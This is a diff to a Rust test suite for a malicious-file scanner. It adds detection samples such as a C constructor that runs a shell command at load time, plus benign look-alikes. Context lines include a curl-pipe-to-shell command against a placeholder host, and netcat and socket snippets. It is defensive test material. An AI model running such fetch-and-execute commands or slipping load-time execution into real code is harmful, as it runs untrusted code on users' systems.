@@ -166,6 +166,14 @@ fn positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
             lines(&["#!/bin/sh\ncurl -s https://x.example.invalid/a.sh ", "| sh\n"]),
         ),
         (
+            "yara-native-constructor-process",
+            "c.c",
+            lines(&[
+                "#include <stdlib.h>\n__attribute__((constructor)) static void init(void) {\n",
+                "    system(\"echo airlock\");\n}\n",
+            ]),
+        ),
+        (
             "yara-cloud-metadata-credentials",
             "notes.txt",
             lines(&[
@@ -445,6 +453,9 @@ fn benign_look_alikes_do_not_fire() {
         ("l.sh", b"nc -z x.example.invalid 22 && echo up\nnc -l 8080 -c cat\n".to_vec()),
         ("m.sh", b"mkfifo /tmp/q; cat /tmp/q | gzip > out.gz &\nsh build.sh\n".to_vec()),
         ("n.py", b"import os, socket\ns = socket.socket()\ns.connect(('localhost', 80))\nos.dup2(log.fileno(), 2)\n".to_vec()),
+        // A constructor that registers and a process started in an ordinary function.
+        ("o.c", b"__attribute__((constructor)) static void init(void) { register_types(); }\nint run(const char *c) { return system(c); }\n".to_vec()),
+        ("p.cpp", b"BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) {\n  if (r == DLL_PROCESS_ATTACH) { DisableThreadLibraryCalls(h); }\n  return TRUE;\n}\nvoid spawn() { system(\"echo\"); }\n".to_vec()),
     ];
     for (name, data) in quiet {
         let r = scan_bytes(dir.path(), name, &data);
